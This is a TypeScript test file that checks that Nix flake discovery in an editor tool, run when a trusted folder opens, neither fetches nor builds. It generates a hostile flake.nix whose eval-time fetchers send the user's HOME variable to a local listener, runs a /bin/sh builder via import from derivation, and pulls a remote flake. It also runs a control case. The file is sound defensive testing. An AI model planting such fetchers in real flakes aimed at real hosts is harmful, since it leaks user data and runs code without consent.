/**
 * The reproducer of "discovery downloads and builds behind the user's back", with real Nix: a flake
 * with no inputs (so it passes the download check) whose outputs call eval-time fetchers against a
 * small HTTP server on 127.0.0.1 started here, and an import-from-derivation builder. Discovery
 * runs when a trusted folder opens, without a click: it must contact nothing and build nothing,
 * and still list an ordinary flake. A control run with the command line discovery used before
 * (`nix eval --impure` of `getFlake` on the folder) shows that the same flake does reach the
 * server and run the builder, so the test can fail.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { findOnPath, offlineNixEnv } from '../support/nix';
import { discoverWithNix } from '../../client/src/nix/discovery';
import { sealedFailure } from '../../client/src/nix/sealed-eval';
import { storeDir } from '../../server/src/schema/live';

const nix = findOnPath('nix');
const skip = !nix && !process.env.CI ? 'nix is not installed (apt-get install nix-bin)' : false;
const SYSTEM = 'x86_64-linux';
const ANY_HASH = 'sha256-' + 'A'.repeat(43) + '=';

/** An HTTP server on 127.0.0.1 that records every request (the attacker's end). */
async function listener(): Promise<{ port: number; requests: string[]; close: () => Promise<void> }> {
  const requests: string[] = [];
  const server = http.createServer((req, res) => {
    requests.push(req.url ?? '');
    res.end('{}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { port, requests, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/**
 * The hostile flake: each output kind discovery lists depends on something it must never do.
 * Its `nixConfig` also asks for import from derivation, which a sealed run must not accept.
 */
function hostileFlake(port: number, nonce: string): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'jn-discovery-hostile-'));
  const url = `http://127.0.0.1:${port}`;
  fs.writeFileSync(
    path.join(dir, 'flake.nix'),
    `{
  nixConfig.allow-import-from-derivation = true;
  outputs = { self }: {
    # An eval-time fetcher leaking the environment (what --impure exposed), and one with a hash, which pure evaluation alone allows.
    packages.${SYSTEM} = builtins.fromJSON (builtins.readFile (builtins.fetchurl "${url}/leak?home=\${builtins.getEnv "HOME"}"))
      // builtins.fromJSON (builtins.readFile (builtins.fetchurl { url = "${url}/leak-hashed"; sha256 = "${ANY_HASH}"; }));
    # Import from derivation: the builder runs while the names are listed.
    nixosConfigurations = import (derivation {
      name = "jn-ifd-${nonce}";
      system = "${SYSTEM}";
      builder = "/bin/sh";
      args = [ "-c" "echo '{ }' > $out" ];
    });
    # A locked remote flake: restricted mode of Nix 2.8 does not cover getFlake.
    devShells.${SYSTEM} = (builtins.getFlake "${url}/leak-flake.tar.gz?narHash=${encodeURIComponent(ANY_HASH)}").devShells.${SYSTEM};
  };
}
`,
  );
  return dir;
}

/** Whether the import-from-derivation builder produced its output. */
function builderRan(nonce: string): boolean {
  return fs.readdirSync(storeDir()).some((entry) => entry.endsWith(`-jn-ifd-${nonce}`));
}

function execNix(args: string[], options: { cwd: string; env: NodeJS.ProcessEnv }): Promise<string> {
  return new Promise((resolve) => execFile(nix!, args, { ...options, timeout: 60_000 }, (_error, _stdout, stderr) => resolve(stderr)));
}

test('discovery of a hostile flake contacts no server and runs no builder, and says why it lists nothing', { skip, timeout: 120_000 }, async () => {
  const server = await listener();
  const nonce = `${process.pid}-${Date.now()}`;
  try {
    const flakeDir = hostileFlake(server.port, nonce);
    const found = await discoverWithNix({ nix: nix!, flakeDir, env: offlineNixEnv(), system: SYSTEM });
    assert.equal(server.requests.length, 0, `discovery contacted the server: ${server.requests.join(', ')}`);
    assert.equal(builderRan(nonce), false, 'discovery ran the import-from-derivation builder');
    assert.deepEqual(found.packages, { error: 'Listing it would read files outside the Nix store or download something while evaluating, which listing never does on its own: Build it (or refresh after `nix flake archive`) to evaluate it fully' });
    assert.deepEqual(found.configurations, { error: 'Listing it would build something while evaluating (import from derivation), which listing never does on its own: Build it (or refresh after `nix flake archive`) to evaluate it fully' });
    assert.ok('error' in found.devShells, JSON.stringify(found.devShells));
    assert.match(found.devShells.error, /download something while evaluating/);

    // Control: the command line discovery used before reaches the server and runs the builder.
    const env = { ...offlineNixEnv(), JETSON_NIX_FLAKE: flakeDir };
    const impure = (attr: string) => ['eval', '--json', '--offline', '--impure', '--no-write-lock-file', '--expr', `builtins.attrNames (builtins.getFlake (builtins.getEnv "JETSON_NIX_FLAKE")).${attr}`];
    await execNix(impure(`packages.${SYSTEM}`), { cwd: flakeDir, env });
    assert.ok(server.requests.some((r) => r.startsWith('/leak?home=%2F') || r.startsWith('/leak?home=/')), `the unsealed run leaked HOME: ${JSON.stringify(server.requests)}`);
    await execNix(impure('nixosConfigurations'), { cwd: flakeDir, env });
    assert.equal(builderRan(nonce), true, 'the unsealed run built the import-from-derivation');
  } finally {
    await server.close();
  }
});

test('sealed failures are explained in one sentence; other failures are left to the caller', () => {
  assert.match(sealedFailure("error: access to URI 'http://x/y' is forbidden in restricted mode")!, /download something/);
  assert.match(sealedFailure("error: access to absolute path '/etc/hostname' is forbidden in pure eval mode (use '--impure' to override)")!, /outside the Nix store/);
  assert.match(sealedFailure("error: cannot build '/nix/store/x.drv' during evaluation because the option 'allow-import-from-derivation' is disabled")!, /import from derivation/);
  assert.match(sealedFailure("fatal: transport 'ssh' not allowed\nerror: program 'git' failed with exit code 128")!, /download something/);
  assert.equal(sealedFailure('error: undefined variable \'x\''), undefined);
});

test('an ordinary flake is still listed: in a subfolder of a git repository, with uncommitted changes', { skip, timeout: 120_000 }, async () => {
  const repo = fs.mkdtempSync(path.join(os.tmpdir(), 'jn-discovery-git-'));
  const flakeDir = path.join(repo, 'robots', 'fleet');
  const fixtures = path.join(__dirname, '..', 'fixtures', 'flakes');
  fs.cpSync(path.join(fixtures, 'view-robot'), flakeDir, { recursive: true });
  fs.cpSync(path.join(fixtures, 'view-ros-overlay'), path.join(flakeDir, 'ros-overlay'), { recursive: true });
  const env = offlineNixEnv();
  const git = (...args: string[]) => new Promise<void>((resolve, reject) => execFile('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd: repo }, (e) => (e ? reject(e) : resolve())));
  await git('init', '--quiet');
  await git('add', '-A');
  await git('commit', '--quiet', '-m', 'fleet');
  await new Promise<void>((resolve, reject) => execFile(nix!, ['flake', 'lock'], { cwd: flakeDir, env }, (e) => (e ? reject(e) : resolve())));
  await git('add', '-A');
  // Uncommitted: Nix sees the working tree (tracked files), as it does for `nix build`.
  fs.appendFileSync(path.join(flakeDir, 'flake.nix'), '\n# edited\n');
  const found = await discoverWithNix({ nix: nix!, flakeDir, env, system: SYSTEM });
  assert.deepEqual(found.configurations, { names: ['robot', 'rover'] });
  assert.deepEqual(found.packages, { names: ['default', 'flash-robot', 'installer-iso'] });
  assert.deepEqual(found.inputShells.map((s) => [s.input, s.listing]), [['nix-ros-overlay', { names: ['example-ros2-basic', 'example-ros2-desktop-humble', 'example-ros2-desktop-jazzy'] }]]);
});
